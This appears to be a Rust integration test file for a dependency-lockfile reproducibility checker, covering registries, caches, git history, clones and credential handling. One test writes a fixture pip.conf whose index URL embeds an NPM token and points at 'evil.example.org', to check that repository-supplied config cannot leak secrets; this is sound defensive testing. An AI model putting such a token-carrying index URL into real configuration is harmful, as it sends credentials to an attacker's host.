//! Whole runs: revisions, caches, credentials, what is kept and what is left behind.

use std::fs;

use serde_json::Value;
use sha2::{Digest, Sha256};
use tempfile::TempDir;

use crate::bench::{Bench, NODE, PROJECT, PURE, PYTHON, git, npm, sha, simple, uv};
use crate::registry::Page;

#[test]
fn an_edited_hash_is_named_with_its_place_and_both_hashes() {
    let lock = uv("idna", &[(PURE, 'b')]);
    let bench =
        Bench::new(&[PYTHON, PROJECT, ("uv.lock", &lock)], &[("/simple/idna/", &simple("idna", &[(PURE, 'a', "")]))]);
    let outcome = bench.run(&["--reproducible"], &[]);
    insta::assert_snapshot!(outcome.out);
    let outcome = bench.run(&["--reproducible", "--format", "markdown"], &[]);
    insta::assert_snapshot!(outcome.out);
}

#[test]
fn without_a_registry_it_says_what_to_set() {
    let lock = "[[package]]\nname = \"idna\"\nversion = \"1.0\"\noptional = false\npython-versions = \"*\"\nfiles = []\n[metadata]\nlock-version = \"2.1\"\npython-versions = \"*\"\ncontent-hash = \"0\"\n";
    let bench = Bench::new(&[PYTHON, ("reproof.toml", ""), ("poetry.lock", lock)], &[]);
    let outcome = bench.run(&[], &[]);
    assert_eq!(outcome.code, 3);
    assert!(
        outcome.out.contains("no index is known for Python packages; say it in reproof.toml: [registry] python ="),
        "{}",
        outcome.out
    );
    let given = bench.registry.url("/simple");
    bench.registry.put("/simple/idna/", Page::json(simple("idna", &[(PURE, 'a', "")])));
    assert_eq!(bench.run(&[], &[("PIP_INDEX_URL", &given)]).code, 0, "pip's settings say it too");
}

#[test]
fn a_registry_that_moved_is_noted() {
    let lock = uv("idna", &[(PURE, 'a')]);
    let page = simple("idna", &[(PURE, 'a', "")]);
    let bench = Bench::new(&[PYTHON, PROJECT, ("uv.lock", &lock)], &[("/simple/idna/", &page)]);
    let outcome = bench.run(&["--all"], &[("UV_DEFAULT_INDEX", "https://mirror.example.com/simple")]);
    assert_eq!(outcome.code, 0, "{}", outcome.out);
    assert!(outcome.out.contains("moved         registry @/simple"), "{}", outcome.out);
    assert!(outcome.out.contains("today's settings choose https://mirror.example.com/simple"), "{}", outcome.out);
}

#[test]
fn offline_it_answers_from_the_cache() {
    let lock = uv("idna", &[(PURE, 'a')]);
    let bench =
        Bench::new(&[PYTHON, PROJECT, ("uv.lock", &lock)], &[("/simple/idna/", &simple("idna", &[(PURE, 'a', "")]))]);
    assert_eq!(bench.judge(&["--offline"]).0, 3);
    assert_eq!(bench.registry.asked().len(), 0);
    assert_eq!(bench.judge(&[]).0, 0);
    assert_eq!(bench.judge(&[]).0, 0);
    assert_eq!(bench.registry.asked().len(), 1);
    let offline = bench.run(&["--offline", "--all"], &[]);
    assert_eq!(offline.code, 0);
    assert!(offline.out.contains("@/simple on 2"), "the day it was asked is said: {}", offline.out);
    assert_eq!(bench.judge(&["--max-age", "0"]).0, 0);
}

#[test]
fn past_revisions_for_one_question_a_name() {
    let bench = Bench::new(&[PYTHON, PROJECT], &[("/simple/idna/", &simple("idna", &[(PURE, 'a', "")]))]);
    let root = bench.repository.path();
    git(root, &["init", "-q"]);
    for (tag, digit) in [("v1", 'a'), ("v2", 'b'), ("v3", 'a')] {
        bench.write("uv.lock", &uv("idna", &[(PURE, digit)]));
        bench.write("count.txt", tag);
        git(root, &["add", "-A"]);
        git(root, &["commit", "-q", "-m", tag]);
        git(root, &["tag", tag]);
    }
    bench.write("uv.lock", "no lockfile at all [");
    assert_eq!(bench.judge(&["v1"]).0, 0);
    assert_eq!(bench.judge(&["v2"]).0, 1);
    assert_eq!(bench.judge(&[]).0, 3, "the files as they are cannot be read");
    let (code, verdicts, _) = bench.judge(&["--tags", "v*"]);
    assert_eq!((code, verdicts), (1, ["recreatable", "not-recreatable", "recreatable"].map(str::to_owned).to_vec()));
    assert_eq!(bench.judge(&["--since", "1y"]).1.len(), 3);
    assert_eq!(bench.registry.asked().len(), 1, "one question for the whole history");
    for arguments in [&["nowhere"][..], &["--tags", "x*"]] {
        let outcome = bench.run(arguments, &[]);
        assert_eq!(outcome.code, 3, "{}{}", outcome.out, outcome.err);
    }
    assert_eq!(bench.run(&["--since", "soon"], &[]).code, 2);
}

#[test]
fn files_are_fetched_hashed_and_kept() {
    let body = b"a wheel".to_vec();
    let sum: String = Sha256::digest(&body).iter().map(|byte| format!("{byte:02x}")).collect();
    let lock = uv("idna", &[(PURE, 'a')]).replace(&sha('a'), &sum);
    let page = simple("idna", &[(PURE, 'a', "")]).replace(&sha('a'), &sum);
    let bench = Bench::new(&[PYTHON, PROJECT, ("uv.lock", &lock)], &[("/simple/idna/", &page)]);
    let file = format!("/files/{PURE}");
    assert_eq!(bench.judge(&["--deep"]).0, 3, "offered, and not to be had");
    bench.registry.put(&file, Page { body: body.clone(), ..Page::status(200) });
    let keep = bench.home.path().join("kept");
    let outcome = bench.run(&["--keep", keep.to_str().unwrap()], &[]);
    assert_eq!(outcome.code, 0, "{}{}", outcome.out, outcome.err);
    assert_eq!(fs::read(keep.join("python").join(PURE)).unwrap(), body);
    let asked = bench.registry.asked().len();
    assert_eq!(bench.run(&["--keep", keep.to_str().unwrap()], &[]).code, 0);
    assert_eq!(bench.registry.asked().len(), asked, "what is kept is not fetched again");
    bench.registry.put(&file, Page { body: b"another".to_vec(), ..Page::status(200) });
    let (code, _, packages) = bench.judge(&["--deep"]);
    assert_eq!((code, packages[1].as_str()), (1, "idna changed"));
}

#[test]
fn a_pull_request_cannot_have_a_token_sent() {
    let lock = npm(", \"node_modules/left\": {\"version\": \"1.0.0\"}");
    let poetry = "[[package]]\nname = \"idna\"\nversion = \"1.0\"\noptional = false\npython-versions = \"*\"\nfiles = []\n[metadata]\nlock-version = \"2.1\"\npython-versions = \"*\"\ncontent-hash = \"0\"\n";
    let bench = Bench::new(&[NODE, &[("package-lock.json", &lock), ("poetry.lock", poetry)]].concat(), &[]);
    let host = bench.registry.url("").replace("http:", "");
    bench.write(".npmrc", &format!("registry=@/npm\n{host}/:_authToken=${{NPM_TOKEN}}\n"));
    bench.write("pip.conf", "[global]\nindex-url = http://${NPM_TOKEN}@evil.example.org/simple\n");
    bench.write("pyproject.toml", "[[tool.poetry.source]]\nname = \"corp\"\nurl = \"@/simple\"\n");
    fs::write(bench.home.path().join(".netrc"), "machine 127.0.0.1 login l password secret\n").unwrap();
    bench.write("ci.conf", "[global]\nindex-url = @/simple\n");
    bench.write(".cargo/config.toml", "[registries.corp]\nindex = \"sparse+@/index/\"\n");
    // Variables that lead into the repository, as some CI has them, make its files nobody's own.
    let variables = [
        ("PIP_CONFIG_FILE", "ci.conf"),
        ("NPM_CONFIG_USERCONFIG", ".npmrc"),
        ("CARGO_HOME", ".cargo"),
        ("CARGO_REGISTRIES_CORP_TOKEN", "secret"),
        ("NPM_TOKEN", "secret"),
        ("POETRY_HTTP_BASIC_CORP_PASSWORD", "secret"),
        ("POETRY_HTTP_BASIC_CORP_USERNAME", "u"),
    ];
    let outcome = bench.run(&[], &variables);
    let asked = bench.registry.asked();
    assert_eq!(asked.len(), 2, "{}{}", outcome.out, outcome.err);
    for one in asked {
        assert!(!format!("{one:?}").contains("secret") && !one.headers.contains_key("authorization"), "{one:?}");
    }
    assert!(!outcome.out.contains("secret"));
}

#[test]
fn a_shallow_clone_says_what_to_fetch() {
    let bench = Bench::new(&[PYTHON, PROJECT, ("uv.lock", &uv("idna", &[(PURE, 'a')]))], &[]);
    let root = bench.repository.path();
    git(root, &["init", "-q"]);
    for count in ["1", "2"] {
        bench.write("count.txt", count);
        git(root, &["add", "-A"]);
        git(root, &["commit", "-q", "-m", count]);
        git(root, &["tag", &format!("v{count}")]);
    }
    let clone = bench.home.path().join("clone");
    let address = format!("file://{}", root.display());
    git(root, &["clone", "-q", "--depth", "1", "--no-tags", &address, clone.to_str().unwrap()]);
    for arguments in [&["v1"][..], &["--tags", "v*"], &["--since", "2y"]] {
        let output = bench.command(&clone, &[&["rehearse"], arguments].concat(), &[]).output().unwrap();
        let said = String::from_utf8_lossy(&output.stderr).into_owned();
        assert_eq!(output.status.code(), Some(3), "{said}");
        assert!(said.contains("the clone is shallow: fetch more history (fetch-depth: 0)"), "{said}");
    }
}

#[test]
fn a_partial_clone_is_not_taken_for_an_empty_one() {
    let bench = Bench::new(&[PYTHON, PROJECT, ("uv.lock", &uv("idna", &[(PURE, 'a')]))], &[]);
    let root = bench.repository.path();
    git(root, &["init", "-q"]);
    git(root, &["config", "uploadpack.allowFilter", "true"]);
    git(root, &["add", "-A"]);
    git(root, &["commit", "-q", "-m", "1"]);
    let clone = bench.home.path().join("clone");
    let address = format!("file://{}", root.display());
    git(root, &["clone", "-q", "--filter=blob:none", "--no-checkout", &address, clone.to_str().unwrap()]);
    for arguments in [&["rehearse", "HEAD"][..], &["metrics"]] {
        let output = bench.command(&clone, arguments, &[]).output().unwrap();
        let said = String::from_utf8_lossy(&output.stderr).into_owned();
        assert_eq!(output.status.code(), Some(3), "{said}");
        assert!(said.contains("git has not fetched it, as in a partial clone"), "{said}");
    }
}

#[test]
fn what_an_index_does_not_have_may_lie_in_find_links() {
    let links = TempDir::new().unwrap();
    let lock = format!(
        "#\n# This file is autogenerated by pip-compile with Python 3.12\n# by the following command:\n#\n#    pip-compile --generate-hashes\n#\nidna==1.0 \\\n    --hash=sha256:{}\n",
        sha('a')
    );
    let bench = Bench::new(&[PYTHON, ("requirements.txt", &lock)], &[]);
    let place = links.path().to_str().unwrap();
    let run = || bench.run(&[], &[("PIP_FIND_LINKS", place)]);
    fs::write(links.path().join("idna_extra-1.0.tar.gz"), "").unwrap();
    assert_eq!(run().code, 1, "a folder without the package changes nothing");
    fs::write(links.path().join("idna-1.0.tar.gz"), "").unwrap();
    let outcome = run();
    assert_eq!(outcome.code, 3, "{}", outcome.out);
    assert!(outcome.out.contains("(find-links) is not asked"), "{}", outcome.out);
}

#[test]
fn a_requirements_file_may_name_places_beside_the_index_or_turn_it_off() {
    let lock = |options: &str| {
        format!(
            "#\n# This file is autogenerated by pip-compile with Python 3.12\n# by the following command:\n#\n#    pip-compile --generate-hashes\n#\n{options}torch==2.1.0+cpu \\\n    --hash=sha256:{}\n",
            sha('a')
        )
    };
    for (options, variable, code, said) in [
        ("", "", 1, "the registry has no such package"),
        ("-f https://wheels.example.com/torch_stable.html\n", "", 3, "torch_stable.html (find-links) is not asked"),
        ("--find-links ./wheels\n", "", 3, "./wheels (find-links) is not asked"),
        ("--no-index\n--find-links ./wheels\n", "", 3, "its file says --no-index"),
        ("", "1", 3, "PIP_NO_INDEX turns all indexes off"),
    ] {
        let text = lock(options);
        let bench = Bench::new(&[PYTHON, ("requirements.txt", &text)], &[]);
        let outcome = bench.run(&[], &[("PIP_NO_INDEX", variable)]);
        assert_eq!(outcome.code, code, "{options:?}\n{}", outcome.out);
        assert!(outcome.out.contains(said), "{options:?}\n{}", outcome.out);
    }
}

#[test]
fn a_scope_that_is_not_shown_is_not_gone() {
    let lock = npm(", \"node_modules/@corp/left\": {\"version\": \"1.0.0\"}");
    let bench = Bench::new(&[NODE, &[("package-lock.json", lock.as_str())]].concat(), &[]);
    let outcome = bench.run(&[], &[]);
    assert_eq!(outcome.code, 3, "{}", outcome.out);
    assert!(outcome.out.contains("answered 404: it has no such package, or shows it with a credential only"));
    let host = bench.registry.url("").replace("http:", "");
    fs::write(bench.home.path().join(".npmrc"), format!("{host}/:_authToken=secret\n")).unwrap();
    assert_eq!(bench.run(&[], &[]).code, 1, "with one the registry's word counts");
}

#[test]
fn one_thing_to_say_of_many_packages_is_said_once() {
    let packages: String =
        (0..12).map(|number| format!(", \"node_modules/p{number}\": {{\"version\": \"1.0.0\"}}")).collect();
    let lock = npm(&packages);
    let bench = Bench::new(&[NODE, &[("package-lock.json", lock.as_str())]].concat(), &[]);
    insta::assert_snapshot!(bench.run(&["--reproducible"], &[]).out);
    insta::assert_snapshot!(bench.run(&["--reproducible", "--format", "markdown"], &[]).out);
}

#[test]
fn a_run_leaves_a_line_for_the_trend() {
    let lock = uv("idna", &[(PURE, 'b')]);
    let bench =
        Bench::new(&[PYTHON, PROJECT, ("uv.lock", &lock)], &[("/simple/idna/", &simple("idna", &[(PURE, 'a', "")]))]);
    let file = bench.home.path().join("trend.jsonl");
    let append = ["--append", file.to_str().unwrap(), "--now", "2026-11-24"];
    bench.run(&append, &[]);
    let text = fs::read_to_string(&file).unwrap();
    let line: Value = serde_json::from_str(text.lines().next().unwrap()).unwrap();
    let point = &line["rehearsal"][0];
    assert_eq!((&line["command"], &line["time"]), (&"rehearse".into(), &"2026-11-24T00:00:00Z".into()));
    assert_eq!((&point["verdict"], &point["lost"]), (&"not-recreatable".into(), &1.into()));
    assert_eq!(line["services"], serde_json::json!([]), "findings are no matter of a rehearsal");
}

#[test]
fn a_proxy_that_does_not_answer_is_named() {
    let lock = uv("idna", &[(PURE, 'a')]);
    let bench = Bench::new(&[PYTHON, PROJECT, ("uv.lock", &lock)], &[]);
    // Nothing listens at the port of a socket that is closed again.
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let proxy = format!("http://user:secret@127.0.0.1:{port}");
    let outcome = bench.run(&[], &[("HTTP_PROXY", &proxy), ("http_proxy", &proxy)]);
    assert_eq!(outcome.code, 3, "{}", outcome.out);
    assert!(
        outcome.out.contains("refuses connections through the proxy that your environment names"),
        "{}",
        outcome.out
    );
    assert!(!outcome.out.contains("secret"));
}
